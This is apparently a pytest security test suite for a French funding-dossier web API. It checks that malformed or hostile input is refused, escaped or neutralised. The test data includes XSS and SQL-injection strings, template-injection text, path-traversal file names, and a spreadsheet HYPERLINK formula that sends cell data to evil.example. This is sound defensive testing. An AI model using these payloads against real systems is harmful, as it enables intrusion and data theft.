"""The bad-input corpus: every case answers 4xx with a problem naming the field or the reason,
and stores nothing (row counts and object-store contents unchanged).

Inputs that are legitimately accepted (markup, SQL or formulas typed as text, hostile file
names) are in the second half: stored as text, escaped on pages, neutralised in exports.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from fastapi.testclient import TestClient
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import func, inspect, select

from app.exports import CODE_SHEETS
from dossier.db import Base
from tests.conftest import DEMO_PASSWORD, login
from tests.helpers import (
    full_dossier,
    minimal_pdf,
    page_post,
    settle_deliveries,
    submit,
    tiny_png,
)

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200 + b"This program cannot be run"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


@dataclass
class Ctx:
    """What a case may use: the client, the founder's headers, a draft to upload to."""

    client: TestClient
    founder: dict[str, str]
    draft: str
    route: str | None = None
    reviewer: dict[str, str] | None = None


Send = Callable[[Ctx], Any]


@dataclass(frozen=True)
class Bad:
    """One bad input: how to send it, the status expected, what the problem must name."""

    id: str
    send: Send
    status: int
    names: str  # a field (prefix of an error's loc) or the problem's code


def set_path(doc: dict[str, Any], path: str, value: Any) -> None:
    """Set a dotted/indexed path ("funding.uses[0].amount_eur") in a dossier."""
    parts = path.replace("[", ".").replace("]", "").split(".")
    target: Any = doc
    for part in parts[:-1]:
        target = target[int(part)] if part.isdigit() else target[part]
    last = parts[-1]
    target[int(last) if last.isdigit() else last] = value


def field(path: str, value: Any, status: int = 422) -> tuple[Send, int, str]:
    """POST /dossiers with one field of a complete dossier replaced."""
    def send(ctx: Ctx):
        body = full_dossier()
        set_path(body, path, value)
        return ctx.client.post("/api/v1/dossiers", headers=ctx.founder, json=body)
    return send, status, path


def raw(body: bytes, status: int, names: str,
        content_type: str = "application/json") -> tuple[Send, int, str]:
    """POST /dossiers with these exact bytes."""
    def send(ctx: Ctx):
        return ctx.client.post("/api/v1/dossiers", content=body,
                               headers={**ctx.founder, "Content-Type": content_type})
    return send, status, names


def raw_field(path_json: str, literal: bytes, names: str,
              status: int = 422) -> tuple[Send, int, str]:
    """A full dossier whose JSON text has one value replaced by a literal (e.g. 1e309)."""
    marker = "__LITERAL__"

    def send(ctx: Ctx):
        body = full_dossier()
        set_path(body, path_json, marker)
        data = json.dumps(body).encode().replace(f'"{marker}"'.encode(), literal)
        return ctx.client.post("/api/v1/dossiers", content=data,
                               headers={**ctx.founder, "Content-Type": "application/json"})
    return send, status, names


def upload(filename: str | bytes, data: bytes, status: int, names: str, kind: str = "kbis",
           declared: str = "application/pdf") -> tuple[Send, int, str]:
    """A multipart upload built by hand (so file names may hold any byte)."""
    name = filename if isinstance(filename, bytes) else filename.encode()

    def send(ctx: Ctx):
        body = (b"--B\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\n" + kind.encode()
                + b"\r\n--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
                + name + b"\"\r\nContent-Type: " + declared.encode() + b"\r\n\r\n" + data
                + b"\r\n--B--\r\n")
        return multipart(body)[0](ctx)
    return send, status, names


def multipart(body: bytes, status: int = 400, names: str = "upload_malformed",
              content_type: str = "multipart/form-data; boundary=B",
              extra: dict[str, str] | None = None) -> tuple[Send, int, str]:
    """A raw body to the draft's upload endpoint."""
    def send(ctx: Ctx):
        return ctx.client.post(f"/api/v1/dossiers/{ctx.draft}/attachments", content=body,
                               headers={**ctx.founder, "Content-Type": content_type,
                                        **(extra or {})})
    return send, status, names


def call(method: str, path: str, status: int, names: str,
         headers: dict[str, str] | None = None, **kwargs: Any) -> tuple[Send, int, str]:
    """Any API call as the founder; `{draft}` in the path is the draft's id."""
    def send(ctx: Ctx):
        return ctx.client.request(method, path.format(draft=ctx.draft),
                                  headers={**ctx.founder, **(headers or {})}, **kwargs)
    return send, status, names


def part(name: str, value: bytes) -> bytes:
    return (b"--B\r\nContent-Disposition: form-data; name=\"" + name.encode() + b"\"\r\n\r\n"
            + value + b"\r\n")


def file_part(data: bytes, filename: bytes = b"a.pdf") -> bytes:
    return (b"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + filename
            + b"\"\r\nContent-Type: application/pdf\r\n\r\n" + data + b"\r\n")


def nested(depth: int) -> bytes:
    return b'{"project": {"summary": ' + b"[" * depth + b"]" * depth + b"}}"


CASES = [Bad(i, *spec) for i, spec in [
    # --- identifiers ---
    ("siren: Luhn checksum wrong", field("company.siren", "123456788")),
    ("siren: 8 digits", field("company.siren", "12345678")),
    ("siren: 10 digits", field("company.siren", "1234567890")),
    ("siren: letters", field("company.siren", "84315276A")),
    ("siren: JSON number instead of text", field("company.siren", 843152760)),
    ("siret: Luhn checksum wrong", field("company.siret", "12345678900011")),
    ("siret: 13 digits", field("company.siret", "8431527600001")),
    ("iban: checksum wrong", field("bank_account.iban", "FR7630006000011234567890188")),
    ("iban: too short", field("bank_account.iban", "FR76")),
    ("iban: not an IBAN at all", field("bank_account.iban", "NOT-AN-IBAN")),
    ("iban: unknown country", field("bank_account.iban", "XX7630006000011234567890189")),
    ("bic: 6 characters", field("bank_account.bic", "CEPAFR")),
    ("bic: unknown country code", field("bank_account.bic", "CEPAXXPP131")),
    ("bic: 10 characters", field("bank_account.bic", "CEPAFRPP13")),
    ("naf code: malformed", field("company.naf_code", "ZZ.99")),
    ("email: no @", field("founders[0].email", "camille.roux.lumiphase.fr")),
    # --- amounts ---
    ("amount: negative", field("funding.total_need_eur", "-5")),
    ("amount: words", field("funding.total_need_eur", "beaucoup")),
    ("amount: three decimals", field("funding.uses[0].amount_eur", "10.005")),
    ("amount: 'NaN' as text", field("funding.total_need_eur", "NaN")),
    ("amount: 'Infinity' as text", field("funding.total_need_eur", "Infinity")),
    ("amount: '1e309' as text", field("funding.total_need_eur", "1e309")),
    ("amount: 1e309 as a JSON number", raw_field("funding.total_need_eur", b"1e309",
                                                 "funding.total_need_eur")),
    ("amount: 1e999999999 as a JSON number (decimal.Overflow)", raw_field(
        "funding.total_need_eur", b"1e999999999", "funding.total_need_eur")),
    ("amount: 5 000-digit JSON number", raw_field(
        "funding.uses[0].amount_eur", b"1" * 5000 + b".5", "funding.uses[0].amount_eur")),
    ("amount: 5 000 digits as text", field("funding.total_need_eur", "1" * 5000)),
    ("amount: 0.000…1 with 5 000 decimals", raw_field(
        "funding.total_need_eur", b"0." + b"0" * 5000 + b"1", "funding.total_need_eur")),
    ("headcount: integer with exponent 1E+100000000", raw_field(
        "company.headcount", b"1E+100000000", "company.headcount")),
    ("headcount: 5 000-digit JSON integer", raw_field("company.headcount", b"9" * 5000,
                                                      "company.headcount")),
    ("headcount: 5 000 digits as text", field("company.headcount", "9" * 5000)),
    ("year: exponent 1e999999999 in a list row", raw_field(
        "financials.history[0].year", b"1e999999999", "financials.history[0].year")),
    ("amount: JSON float with three decimals", raw_field(
        "funding.uses[0].amount_eur", b"520000.001", "funding.uses[0].amount_eur")),
    ("amount: 10^21 euros", field("funding.total_need_eur", "1" + "0" * 21 + ".00")),
    ("amount: French decimal comma", field("funding.total_need_eur", "1329243,00")),
    ("amount: boolean", field("funding.total_need_eur", True)),
    ("equity share: 150 %", field("founders[0].equity_pct", "150")),
    ("headcount: negative", field("company.headcount", -1)),
    ("headcount: 14.5 people", field("company.headcount", 14.5)),
    # --- dates ---
    ("date: 31 February", field("company.creation_date", "2021-02-31")),
    ("date: year 0", field("company.creation_date", "0000-01-01")),
    ("date: far future", field("company.creation_date", "2999-01-01")),
    ("date: French format dd/mm/yyyy", field("company.creation_date", "15/03/2021")),
    ("date: timestamp number", field("company.creation_date", 1615766400)),
    ("year: 0 in the history", field("financials.history[0].year", 0)),
    ("year: 99999 in the forecast", field("financials.forecast[0].year", 99999)),
    # --- sizes ---
    ("text: 10 000-character company name", field("company.legal_name", "A" * 10_000)),
    ("text: 600 kB project summary", field("project.summary", "a" * 600_000)),
    ("json body: 5 MB", raw(b'{"project": {"summary": "' + b"a" * (5 * 1024 * 1024) + b'"}}',
                            413, "body_too_large")),
    ("upload: over the 2 MB cap", upload("gros.pdf", minimal_pdf() + b"%" * (3 * 1024 * 1024),
                                         413, "upload_too_large")),
    ("upload: Content-Length announces 1 GB", multipart(
        b"--B--\r\n", 413, "upload_too_large", extra={"Content-Length": str(1 << 30)})),
    ("upload: 5 000-character kind field", multipart(
        part("kind", b"k" * 5000) + file_part(minimal_pdf()) + b"--B--\r\n", 400,
        "upload_field_too_long")),
    # --- encodings ---
    ("json: invalid UTF-8 bytes", raw(b'{"company": {"legal_name": "Lumi\xff\xfephase"}}',
                                      400, "json_invalid")),
    ("json: UTF-8 byte order mark", raw(b"\xef\xbb\xbf" + json.dumps(full_dossier()).encode(),
                                        400, "json_invalid")),
    ("json: UTF-16 body", raw(json.dumps({"company": {}}).encode("utf-16"), 400,
                              "json_invalid")),
    ("json: lone surrogate escape", raw_field("company.legal_name", rb'"Lumi\ud800phase"',
                                              "company.legal_name")),
    # --- control characters ---
    ("control: NUL in company name", field("company.legal_name", "Lumi\x00phase")),
    ("control: ESC sequence in founder name", field("founders[0].last_name", "Roux\x1b[31m")),
    ("control: BEL in project summary", field("project.summary", "Laser\x07 compact")),
    ("control: U+202E bidi override in company name",
     field("company.legal_name", "Lumiphase\u202efdp.exe")),
    ("control: U+2066 bidi isolate in founder name",
     field("founders[1].first_name", "Karim\u2066")),
    # --- structure ---
    ("structure: unknown field", field("company.favourite_colour", "blue")),
    ("structure: founders as an object", field("founders", {"first_name": "Camille"})),
    ("structure: schema_version 2", field("schema_version", 2)),
    ("json: 10 000 nested arrays", raw(nested(10_000), 400, "json_too_deep")),
    ("json: 65 nested arrays (our bound, not Python's recursion)",
     raw(nested(65), 400, "json_too_deep")),
    ("json: 500 000 nested arrays", raw(nested(500_000), 400, "json_too_deep")),
    ("json: duplicate key", raw(b'{"company": {"legal_name": "A"}, "company": {}}', 400,
                                "json_invalid")),
    ("json: NaN literal", raw(b'{"funding": {"total_need_eur": NaN}}', 422,
                              "funding.total_need_eur")),
    ("json: Infinity literal", raw(b'{"funding": {"total_need_eur": Infinity}}', 422,
                                   "funding.total_need_eur")),
    ("json: truncated", raw(b'{"company": {"legal_name": "Lumi', 400, "json_invalid")),
    ("json: trailing garbage", raw(b'{"company": {}} x', 400, "json_invalid")),
    ("json: empty body", raw(b"", 400, "json_invalid")),
    ("json: a bare string", raw(b'"just a string"', 422, "body")),
    ("content type: text/plain", raw(json.dumps({}).encode(), 415, "json_content_type",
                                     "text/plain")),
    ("content type: form-urlencoded", raw(b"company=Lumiphase", 415, "json_content_type",
                                          "application/x-www-form-urlencoded")),
    # --- spoofed file types ---
    ("upload: Windows .exe renamed .pdf", upload("rapport.pdf", EXE, 415, "unsupported_type")),
    ("upload: HTML renamed .pdf", upload("kbis.pdf", HTML, 415, "unsupported_type")),
    ("upload: HTML declared as image/png", upload("photo.png", HTML, 415, "unsupported_type",
                                                  declared="image/png")),
    ("upload: SVG with script", upload("logo.png", b'<svg xmlns="http://www.w3.org/2000/svg">'
                                       b"<script>alert(1)</script></svg>", 415,
                                       "unsupported_type")),
    ("upload: PDF header then garbage", upload("trunc.pdf", b"%PDF-1.4\n" + b"x" * 100, 415,
                                               "file_damaged")),
    ("upload: empty file", upload("vide.pdf", b"", 422, "file")),
    # --- malformed multipart ---
    ("multipart: no boundary", multipart(b"--B--\r\n", 400, "upload_not_multipart",
                                         content_type="multipart/form-data")),
    ("multipart: truncated body", multipart(part("kind", b"kbis") + file_part(b"%PDF-1.4 tr"))),
    ("multipart: missing file part", multipart(part("kind", b"kbis") + b"--B--\r\n", 422,
                                               "file")),
    ("multipart: missing kind", multipart(file_part(minimal_pdf()) + b"--B--\r\n", 422,
                                          "kind")),
    ("multipart: unknown kind", upload("a.pdf", minimal_pdf(), 422, "kind", kind="selfie")),
    ("multipart: two files", multipart(part("kind", b"kbis") + file_part(minimal_pdf())
                                       + file_part(minimal_pdf()) + b"--B--\r\n", 400,
                                       "upload_one_file")),
    ("multipart: JSON sent to the upload", multipart(b"{}", 400, "upload_not_multipart",
                                                     content_type="application/json")),
    # --- other endpoints and parameters ---
    ("submit: consent as the string 'yes'", call("POST", "/api/v1/dossiers/{draft}/submit",
                                                 422, "consent", json={"consent": "yes"})),
    ("submit: consent missing", call("POST", "/api/v1/dossiers/{draft}/submit", 422,
                                     "consent", json={})),
    ("submit: consent as the number 1", call("POST", "/api/v1/dossiers/{draft}/submit", 422,
                                             "consent", json={"consent": 1})),
    ("submit: 300-character Idempotency-Key", call(
        "POST", "/api/v1/dossiers/{draft}/submit", 422, "idempotency-key",
        headers={"Idempotency-Key": "k" * 300}, json={"consent": True})),
    ("list: offset beyond 64 bits", call("GET", "/api/v1/dossiers?offset=" + "9" * 40, 422,
                                         "offset")),
    ("list: negative limit", call("GET", "/api/v1/dossiers?limit=-1", 422, "limit")),
    ("path: traversal instead of a dossier id", call("GET", "/api/v1/dossiers/..%2F..%2Fetc",
                                                     404, "not_found")),
    ("path: dossier id that is not a UUID", call("GET", "/api/v1/dossiers/1%27%20OR%201=1",
                                                 404, "dossier_not_found")),
    ("path: attachment id with NUL", call(
        "GET", "/api/v1/dossiers/{draft}/attachments/abc%00def/content", 404,
        "attachment_not_found")),
    ("put: amendment body with NUL in summary", call(
        "PUT", "/api/v1/dossiers/{draft}", 422, "project.summary",
        json={**full_dossier(), "project": {**full_dossier()["project"],
                                            "summary": "Laser\x00"}})),
]]


def snapshot(sessions, store) -> tuple[dict[str, int], list[str]]:
    """Rows of every table and every stored object."""
    with sessions() as db:
        rows = {t.name: db.scalar(select(func.count()).select_from(t))
                for t in Base.metadata.sorted_tables}
    objects = sorted(str(p) for p in store.root.rglob("*") if p.is_file()) \
        if store.root.exists() else []
    return rows, objects


def names_it(problem: dict[str, Any], expected: str) -> bool:
    """The problem's code, or one of its errors' fields, is the expected one."""
    if problem.get("code") == expected:
        return True
    return any(e["loc"].lower().startswith(expected) for e in problem.get("errors", []))


@pytest.fixture
def ctx(client, founder) -> Ctx:
    draft = client.post("/api/v1/dossiers", headers=founder, json={}).json()["id"]
    return Ctx(client=client, founder=founder, draft=draft)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_refused_and_stores_nothing(case: Bad, ctx, sessions, store):
    before = snapshot(sessions, store)
    r = case.send(ctx)
    assert r.status_code == case.status, r.text[:500]
    assert r.headers["content-type"].startswith("application/problem+json")
    problem = r.json()
    assert problem["status"] == case.status and problem["detail"]
    assert names_it(problem, case.names), problem
    assert all(e["msg"] and e["msg"] != e["code"] for e in problem.get("errors", []))
    assert snapshot(sessions, store) == before


# --- route endpoints: a dossier delivered to CEPAC, the reviewer acting on it ---

def delivered_route(client, founder, sessions, body: dict | None = None) -> str:
    """Submit a complete dossier and mark every delivery done; the CEPAC route's id."""
    answer = submit(client, founder, body)
    settle_deliveries(sessions)
    return next(x["id"] for x in answer["routes"] if x["partner"] == "cepac")


def event(body: dict[str, Any], status: int, names: str) -> tuple[Send, int, str]:
    """A reviewer's event on the delivered route."""
    def send(ctx: Ctx):
        return ctx.client.post(f"/api/v1/routes/{ctx.route}/events", headers=ctx.reviewer,
                               json=body)
    return send, status, names


def raw_event(body: bytes, names: str, status: int = 422) -> tuple[Send, int, str]:
    """A reviewer's event on the delivered route, as these exact bytes."""
    def send(ctx: Ctx):
        return ctx.client.post(f"/api/v1/routes/{ctx.route}/events", content=body,
                               headers={**ctx.reviewer, "Content-Type": "application/json"})
    return send, status, names


def message(body: dict[str, Any], status: int, names: str) -> tuple[Send, int, str]:
    """A reviewer's message on the delivered route."""
    def send(ctx: Ctx):
        return ctx.client.post(f"/api/v1/routes/{ctx.route}/messages", headers=ctx.reviewer,
                               json=body)
    return send, status, names


ROUTE_CASES = [Bad(i, *spec) for i, spec in [
    ("event: unknown type", event({"type": "teleported"}, 422, "type")),
    ("event: approved with a negative amount", event(
        {"type": "approved", "instrument": "bank_loan", "amount_eur": "-1"}, 422,
        "amount_eur")),
    ("event: approved with NaN", event(
        {"type": "approved", "instrument": "bank_loan", "amount_eur": "NaN"}, 422,
        "amount_eur")),
    ("event: declined with an unknown reason", event(
        {"type": "declined", "reason": "bad_vibes", "comment": "x"}, 422, "reason")),
    ("event: information request with NUL", event(
        {"type": "info_requested", "request_kind": "question", "message": "Kbis\x00?"}, 422,
        "message")),
    ("event: duration with exponent 1E+1000000000", raw_event(
        b'{"type": "approved", "instrument": "bank_loan", "duration_months": 1E+1000000000}',
        "duration_months")),
    ("event: amount with exponent 1e999999999", raw_event(
        b'{"type": "approved", "instrument": "bank_loan", "amount_eur": 1e999999999}',
        "amount_eur")),
    ("event: amount of 5 000 digits", raw_event(
        b'{"type": "approved", "instrument": "bank_loan", "amount_eur": ' + b"9" * 5000
        + b"}", "amount_eur")),
    ("event: rate as NaN", raw_event(
        b'{"type": "approved", "instrument": "bank_loan", "rate_pct": NaN}', "rate_pct")),
    ("message: 10 000 characters", message({"body": "x" * 10_000}, 422, "body")),
    ("message: bidi override", message({"body": "paid \u202e0001"}, 422, "body")),
    ("message: unknown attachment id", message(
        {"body": "ci-joint", "attachment_ids": [str(uuid.uuid4())]}, 422, "attachment_ids")),
]]


@pytest.mark.parametrize("case", ROUTE_CASES, ids=[c.id for c in ROUTE_CASES])
def test_bad_route_input_is_refused_and_stores_nothing(case: Bad, client, founder, sessions,
                                                       store):
    route = delivered_route(client, founder, sessions)
    ctx = Ctx(client=client, founder=founder, draft="", route=route,
              reviewer=login(client, "cepac@demo.example"))
    before = snapshot(sessions, store)
    r = case.send(ctx)
    assert r.status_code == case.status, r.text[:500]
    assert r.headers["content-type"].startswith("application/problem+json")
    assert names_it(r.json(), case.names), r.json()
    assert snapshot(sessions, store) == before


# --- legitimately accepted: stored as text, escaped on pages, neutralised in exports ---

def pages(client, email: str) -> TestClient:
    """A cookie session on the pages for this account."""
    browser = TestClient(client.app)
    r = page_post(browser, "/login", {"email": email, "password": DEMO_PASSWORD},
                     follow_redirects=False)
    assert r.status_code == 303, r.text
    return browser


def shown_escaped(html: str, value: str) -> bool:
    """The value appears HTML-escaped, and never raw when escaping changes it."""
    escaped = str(escape(value))
    return escaped in html and (escaped == value or value not in html)


MARKUP = [
    ("accepted, escaped on pages: <script> in project.summary", "project.summary",
     "<script>alert(document.cookie)</script>"),
    ("accepted, escaped on pages: <img onerror> in company name", "company.legal_name",
     '<img src=x onerror="alert(1)">'),
    ("accepted, escaped on pages: attribute break-out in a founder's role", "founders[0].role",
     '"><svg onload=alert(1)>'),
    ("accepted, shown literally: Jinja {{ 7*7 }} in project.market", "project.market",
     "{{ 7*7 }} {% if true %}x{% endif %}"),
    ("accepted, stored verbatim: SQL '); DROP TABLE in company name", "company.legal_name",
     "Lumiphase'); DROP TABLE dossiers; --"),
    ("accepted, stored verbatim: SQL ' OR '1'='1 in city", "company.address.city",
     "Marseille' OR '1'='1"),
]


@pytest.mark.parametrize(("path", "value"), [m[1:] for m in MARKUP], ids=[m[0] for m in MARKUP])
def test_markup_and_sql_are_text_shown_escaped(client, founder, sessions, engine, path, value):
    body = full_dossier()
    set_path(body, path, value)
    route = delivered_route(client, founder, sessions, body)
    with sessions() as db:
        assert inspect(db.get_bind()).has_table("dossiers")
    dossier = client.get("/api/v1/dossiers", headers=founder).json()[0]
    stored: Any = dossier["content"]
    for part_ in path.replace("[", ".").replace("]", "").split("."):
        stored = stored[int(part_)] if part_.isdigit() else stored[part_]
    assert stored == value
    preview = pages(client, "founder@demo.example").get(
        f"/founder/dossiers/{dossier['id']}/preview")
    assert preview.status_code == 200 and shown_escaped(preview.text, value)
    reviewer_page = pages(client, "cepac@demo.example").get(f"/reviewer/routes/{route}")
    assert reviewer_page.status_code == 200 and shown_escaped(reviewer_page.text, value)


FORMULAS = [
    ("accepted, neutralised in exports: =HYPERLINK in company name",
     '=HYPERLINK("https://evil.example/?d="&A1;"Ouvrir")'),
    ("accepted, neutralised in exports: leading + in company name", "+33 6 12 34 56 78"),
    ("accepted, neutralised in exports: leading - in company name", "-2+3"),
    ("accepted, neutralised in exports: leading @ in company name", "@SUM(A1:A9)"),
]


@pytest.mark.parametrize("name", [f[1] for f in FORMULAS], ids=[f[0] for f in FORMULAS])
def test_formulas_in_names_are_text_in_csv_and_xlsx(client, founder, staff, sessions, name):
    body = full_dossier()
    body["company"]["legal_name"] = name
    delivered_route(client, founder, sessions, body)
    for shape, delimiter, header in (("fr", ";", "Entreprise"), ("codes", ",", "company")):
        r = client.get(f"/api/v1/pipeline/export.csv?format={shape}", headers=staff)
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=delimiter))
        company = rows[0].index(header)
        assert {row[company] for row in rows[1:]} == {"'" + name}, shape
        r = client.get(f"/api/v1/pipeline/export.xlsx?format={shape}", headers=staff)
        book = load_workbook(io.BytesIO(r.content))
        sheet = book["Demandes"] if shape == "fr" else book[CODE_SHEETS["routes"]]
        column = [c.value for c in sheet[1]].index(header)
        cells = [row[column] for row in sheet.iter_rows(min_row=2)]
        assert {c.value for c in cells} == {"'" + name}, shape
        assert {c.data_type for c in cells} == {"s"}  # a string, never a formula


# Cross-field rules are warnings on a draft (data dictionary) and refusals at submission.
CROSS_FIELD = [
    ("siret: of another company than the SIREN", "company.siret", "73282932000074"),
    ("partner: not in the catalogue", "requests[0].partner", "bank-of-nowhere"),
    ("amount: sources do not add up", "funding.sources[0].amount_eur", "1.00"),
]


@pytest.mark.parametrize(("path", "value"), [c[1:] for c in CROSS_FIELD],
                         ids=[c[0] for c in CROSS_FIELD])
def test_a_cross_field_rule_warns_on_a_draft_and_refuses_the_submission(client, founder, path,
                                                                        value):
    body = full_dossier()
    set_path(body, path, value)
    r = client.post("/api/v1/dossiers", headers=founder, json=body)
    assert r.status_code == 201, r.text
    warned = {w["loc"] for w in r.json()["completeness"]["warnings"]}
    top = path.split("[")[0] if "sources" in path else path
    assert any(w.startswith(top) for w in warned), warned
    dossier_id = r.json()["id"]
    r = client.post(f"/api/v1/dossiers/{dossier_id}/submit", headers=founder,
                    json={"consent": True})
    assert r.status_code == 422
    assert client.get(f"/api/v1/dossiers/{dossier_id}", headers=founder).json()["routes"] == []


FILENAMES = [
    ("accepted, sanitised: ../../etc/passwd", b"../../etc/passwd", minimal_pdf(),
     "passwd.pdf", "application/pdf"),
    ("accepted, sanitised: ..\\..\\windows\\system32\\cmd.exe",
     b"..\\..\\windows\\system32\\cmd.exe", minimal_pdf(), "cmd.exe.pdf", "application/pdf"),
    ("accepted, sanitised: absolute path /etc/passwd.pdf", b"/etc/passwd.pdf", minimal_pdf(),
     "passwd.pdf", "application/pdf"),
    ("accepted, sanitised: NUL inside the name", b"kbis\x00.exe", minimal_pdf(),
     "kbis.exe.pdf", "application/pdf"),
    ("accepted, sanitised: U+202E reversing the extension", "facture\u202efdp.exe".encode(),
     minimal_pdf(), "facturefdp.exe.pdf", "application/pdf"),
    ("accepted, sanitised: invalid UTF-8 bytes in the name", b"kbis\xff.pdf", minimal_pdf(),
     "kbis\ufffd.pdf", "application/pdf"),
    ("accepted, sanitised: markup in the name", b"<script>kbis.pdf", minimal_pdf(),
     "_script_kbis.pdf", "application/pdf"),
    ("accepted, typed by its bytes: a PNG named and declared as PDF", b"scan.pdf", tiny_png(),
     "scan.png", "image/png"),
]


@pytest.mark.parametrize(("raw_name", "data", "name", "mime"), [f[1:] for f in FILENAMES],
                         ids=[f[0] for f in FILENAMES])
def test_hostile_file_names_are_reduced_to_a_safe_base_name(ctx, raw_name, data, name, mime):
    send, _, _ = upload(raw_name, data, 201, "")
    r = send(ctx)
    assert r.status_code == 201, r.text
    assert (r.json()["filename"], r.json()["content_type"]) == (name, mime)
    got = ctx.client.get(f"/api/v1/dossiers/{ctx.draft}/attachments/{r.json()['id']}/content",
                         headers=ctx.founder)
    assert got.headers["content-type"].startswith(mime)
    assert got.headers["x-content-type-options"] == "nosniff"
    disposition = got.headers["content-disposition"]
    assert disposition.startswith("attachment;") and "/" not in disposition.split(";", 1)[1]
